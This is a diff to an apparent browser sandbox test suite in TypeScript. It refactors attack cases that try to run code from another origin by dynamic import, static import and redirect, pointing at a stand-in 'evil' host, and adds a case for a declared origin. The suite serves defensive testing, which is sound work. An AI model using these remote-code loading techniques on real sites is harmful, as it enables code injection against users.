@@ -1,4 +1,4 @@
-import { type Arena, type Attack, attemptAll, blobScript, hit } from "../attack.ts";
+import { type Attack, attemptAll, blobScript, type Finding, hit } from "../attack.ts";
 
 declare global {
   /** Set by the counting server's script, and by text that became code. */
@@ -41,7 +41,25 @@ function reach(frame: Window, member: "RTCPeerConnection" | "fetch"): unknown {
   return value;
 }
 
-/** S-10 to S-12: code from somewhere else than the release. */
+/** Code of another origin, by every import that a module made at run time can have. */
+function foreignCode(address: (file: string) => string): Promise<Finding> {
+  return attemptAll({
+    "dynamic import": async () => {
+      await runModule(`import(${JSON.stringify(address("remote-entry.js"))}).catch(() => {}).then(finish)`);
+      return ran();
+    },
+    "static import": async () => {
+      await runModule(`import ${JSON.stringify(address("remote-chunk.js"))}; finish();`);
+      return ran();
+    },
+    "remote entry by a redirect": async () => {
+      await runModule(`import(${JSON.stringify(address("redirect.js"))}).catch(() => {}).then(finish)`);
+      return ran();
+    },
+  });
+}
+
+/** S-09 to S-12: code from somewhere else than the release. */
 export const codeAttacks: readonly Attack[] = [
   {
     id: "S-10",
@@ -96,20 +114,12 @@ export const codeAttacks: readonly Attack[] = [
   {
     id: "S-12",
     name: "code of another origin",
-    run: (arena: Arena) =>
-      attemptAll({
-        "dynamic import": async () => {
-          await runModule(`import(${JSON.stringify(hit(arena, "remote-entry.js"))}).catch(() => {}).then(finish)`);
-          return ran();
-        },
-        "static import": async () => {
-          await runModule(`import ${JSON.stringify(hit(arena, "remote-chunk.js"))}; finish();`);
-          return ran();
-        },
-        "remote entry by a redirect": async () => {
-          await runModule(`import(${JSON.stringify(hit(arena, "redirect.js"))}).catch(() => {}).then(finish)`);
-          return ran();
-        },
-      }),
+    run: (arena) => foreignCode((file) => hit(arena, file)),
+  },
+  {
+    id: "S-09",
+    name: "code of a declared origin",
+    publication: "declared",
+    run: (arena) => foreignCode((file) => hit({ ...arena, evil: arena.declared ?? arena.evil }, file)),
   },
 ];
